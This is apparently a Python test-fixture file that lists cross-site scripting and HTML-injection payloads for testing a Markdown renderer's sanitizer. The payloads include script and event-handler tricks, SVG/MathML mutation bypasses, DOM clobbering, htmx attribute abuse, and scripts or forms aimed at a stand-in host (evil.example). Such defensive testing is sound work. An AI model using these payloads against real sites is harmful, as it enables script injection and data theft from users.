"""Texts that try to run, load, submit, style or take over something: by family, each with one page's Markdown.

Whatever would run sets ``window.taken``; whatever would load asks for ``evil.example``.
"""

# ruff: noqa: E501 - a text is a text, however long

from __future__ import annotations

HIT = "window.taken=1"
FAR = "https://evil.example"
ENTITY = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"

_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", ENTITY,
    "javascript&colon;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "blob:", "file:///", "view-source:",
)  # fmt: skip
_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_HTMX = (
    'hx-get="/settings/"', 'hx-post="/queue/x/decide/"', 'data-hx-post="/sign-out/"', 'hx-on:click="{hit}"',
    'hx-on--load="{hit}"', 'data-hx-on-click="{hit}"', 'hx-vals="js:{{a:{hit}}}"', 'hx-headers="js:{{a:{hit}}}"',
    'hx-trigger="load" hx-get="{far}/a"', 'hx-swap-oob="true"', 'hx-boost="true"', 'hx-ext="{far}/x.js"',
)  # fmt: skip
_CLOBBER = ("csrf", "csrfmiddlewaretoken", "keymap", "shortcuts", "confirm", "live", "toasts", "main", "editor", "side")

FAMILIES: dict[str, list[str]] = {
    "link": [f"[x]({one}{HIT})" for one in _SCHEMES],
    "link in brackets": [f"[x](<{one}{HIT}>)" for one in _SCHEMES[:8]],
    "reference": [f"[x][r{n}]\n\n[r{n}]: {one}{HIT}" for n, one in enumerate(_SCHEMES[:8])],
    "autolink": [f"<javascript:{HIT}>", f"<data:text/html,{HIT}>", f"<vbscript:{HIT}>"],
    "image": [f"![x]({one}{HIT})" for one in _SCHEMES[:6]] + [f"![x]({FAR}/pixel.gif)", f"![x][i]\n\n[i]: {FAR}/i.gif"],
    "title and alt": [
        f'[x](https://a.example "a\\" onmouseover={HIT} b=\\"")',
        f'![a" onerror="{HIT}](x "y")',
        f"[x](https://a.example 'a' onclick='{HIT}')",
        f'![x](x "\\"><script>{HIT}</script>")',
    ],
    "script": [
        f"<script>{HIT}</script>", f"<SCRIPT SRC={FAR}/x.js></SCRIPT>", f"<script/x>{HIT}</script>",
        f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<script type=module>{HIT}</script>", f"a<script\n>{HIT}</script\n>",
        f'<noscript><p title="</noscript><img src=x onerror={HIT}>"></noscript>',
    ],
    "events": [f"<p {one}={HIT}>x</p>\n<img src=x {one}='{HIT}'>" for one in _EVENTS],
    "svg": [
        f"<svg onload={HIT}></svg>", f"<svg><script>{HIT}</script></svg>", f'<svg><a xlink:href="javascript:{HIT}"><text>x</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=w onload={HIT}/>#x"/></svg>', f'<svg><animate attributeName=href values="javascript:{HIT}"/></svg>',
        f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>", f'<svg><image href="{FAR}/x.svg"/></svg>',
    ],
    "math": [f'<math><mtext href="javascript:{HIT}">x</mtext></math>', f"<math><mi xlink:href='javascript:{HIT}'>x</mi></math>",
             f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>"],
    "mutation": [
        f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">', f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
        f"<table><td><a href='x'><table><td><img src=x onerror={HIT}>", f"<select><template><img src=x onerror={HIT}></template></select>",
        f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>", f"<xmp><img src=x onerror={HIT}></xmp>", f"<title><img src=x onerror={HIT}></title>",
    ],
    "loads": [
        f'<img src="{FAR}/p.gif">', f'<img srcset="{FAR}/a 1x">', f'<picture><source srcset="{FAR}/b"><img></picture>', f'<video src="{FAR}/v" autoplay></video>',
        f'<audio src="{FAR}/a" autoplay></audio>', f'<video poster="{FAR}/c"></video>', f'<link rel=stylesheet href="{FAR}/s.css">', f'<link rel=prefetch href="{FAR}/p">',
        f'<input type=image src="{FAR}/i">', f'<body background="{FAR}/b">', f'<table background="{FAR}/t"><tr><td>x</table>', f'<object data="{FAR}/o"></object>', f'<embed src="{FAR}/e">',
    ],
    "frames": [f'<iframe src="javascript:{HIT}"></iframe>', f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>", f'<frameset><frame src="{FAR}"></frameset>', f'<portal src="{FAR}"></portal>'],
    "base and meta": [f'<base href="{FAR}/">', f'<meta http-equiv=refresh content="0;url={FAR}">', '<meta http-equiv=content-security-policy content="script-src *">', f'<meta name=referrer content=unsafe-url><a href="{FAR}">x</a>'],
    "forms": [
        f'<form action="{FAR}"><input name=a value=b><button>Save</button></form>', f'<button formaction="javascript:{HIT}">x</button>', f"<input autofocus onfocus={HIT}>",
        f"<textarea autofocus onfocus={HIT}></textarea>", f'<isindex action="javascript:{HIT}">', '<form id=editor data-editor action="/sign-out/" method=post><button name=act value=save>x</button></form>',
    ],
    "style": [
        f"<style>*{{background:url({FAR}/s)}}</style>", f'<p style="background:url({FAR}/t)">x</p>', '<p style="position:fixed;inset:0;z-index:999">x</p>', f"<style>@import '{FAR}/u';</style>",
        '<div style="behavior:url(#x)">x</div>',
    ],
    "clobbering": [f'<a id="{one}" name="{one}">x</a>\n\n<img name="{one}">' for one in _CLOBBER],
    "htmx": [f"<p {one.format(hit=HIT, far=FAR)}>x</p>\n\n<a href='#' {one.format(hit=HIT, far=FAR)}>x</a>" for one in _HTMX],
    "own attributes": ['<button data-dialog="shortcuts" data-confirm="x" data-key="e">x</button>', '<p data-focus data-announce="owned">x</p>', f'<a data-copy="{HIT}" data-open href=x>x</a>', "<div class='toasts btn notice is-busy' role=alert popovertarget=side>x</div>"],
    "page links": [f"[[x|<img src=x onerror={HIT}>]]", f"[[javascript:{HIT}]]", f'[[x" onclick="{HIT}]]', f'[[x#"><script>{HIT}</script>]]', f"![[{FAR}/x.png]]", f'[x](wiki:0"onclick={HIT})', "[x](wiki:99)", f"<a href='wiki:0' onclick={HIT}>x</a>"],
    "code": [f"```html\n<script>{HIT}</script>\n```", f'```"><img src=x onerror={HIT}>\nx\n```', f"`<img src=x onerror={HIT}>`", f"```language-x onclick={HIT}\nx\n```"],
    "footnotes": [f"x[^1]\n\n[^1]: <img src=x onerror={HIT}>", f'x[^"><script>{HIT}</script>]\n\n[^"><script>{HIT}</script>]: a', f"x^[<svg onload={HIT}>]"],
    "headings": [f"## <img src=x onerror={HIT}>", f'## a" onclick="{HIT}', f"## [x](javascript:{HIT})", "## csrf"],
    "tables": [f"| a |\n|---|\n| <img src=x onerror={HIT}> |", f'| a" onclick="{HIT} |\n|:--|\n| [x](javascript:{HIT}) |'],
    "tasks": [f"- [x] <img src=x onerror={HIT}>", f'- [ ] <input type=checkbox onclick="{HIT}">'],
    "entities": [f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;img src=x onerror={HIT}&#62;", f"[x](&#x6A;avascript:{HIT})", f'<a href="jav&#x0A;ascript:{HIT}">x</a>'],
    "breaking out": [f"</article></div></main><script>{HIT}</script>", f"</textarea><img src=x onerror={HIT}>", f'"><img src=x onerror={HIT}>', f"'-{HIT}-'", "{{ 7|add:7 }}{% csrf_token %}", f"]]><script>{HIT}</script>"],
    "hidden letters": [f"<scr\u200bipt>{HIT}</scr\u200bipt>", f"<\u202escript>{HIT}</script>", f"＜script＞{HIT}＜/script＞", f"<img\u00a0src=x\u00a0onerror={HIT}>"],
}  # fmt: skip

SWALLOWING = [
    f"<script>{HIT}", "<!-- <img src=x onerror=window.taken=1>", f"<style><img src=x onerror={HIT}>", f"<textarea><img src=x onerror={HIT}>",
    f"<plaintext><img src=x onerror={HIT}>", f"<template><img src=x onerror={HIT}>", f"<![CDATA[<img src=x onerror={HIT}>", f"<?php <img src=x onerror={HIT}> ?>", f"<!DOCTYPE a [<!ENTITY b '<img src=x onerror={HIT}>']>&b;",
]  # fmt: skip
"""What could hide everything behind it: each is a page of its own."""

HEADS = [
    f"title: '<img src=x onerror={HIT}>'", f"title: '\"><script>{HIT}</script>'", f"tags: ['<svg onload={HIT}>', 'a\" onclick=\"{HIT}']",
    f"author: <b onclick={HIT}>me</b>", f"sources: ['javascript:{HIT}', '{FAR}/<img src=x onerror={HIT}>']", f"related: ['<iframe src=javascript:{HIT}>']",
    f"zebra: '</textarea><script>{HIT}</script>'", "title: '{{ 7|add:7 }}'", 'title: "a\\u202e\\u200bb"',
]  # fmt: skip
"""Frontmatter: shown in titles, lists, pictures, fields."""

NAMES = [
    "a' onclick='window.taken=1.md", "javascript&colon.md", "{{ 7 }}.md", "onerror=window.taken=1/x.md", "a&lt;b.md"[:4] + ".md", "$(window.taken=1).md", "`window.taken=1`.md", "'-window.taken=1-'.md",
]  # fmt: skip
"""File names that are allowed and still look like something."""


def count() -> int:
    """How many there are."""
    return sum(map(len, FAMILIES.values())) + len(SWALLOWING) + len(HEADS) + len(NAMES)
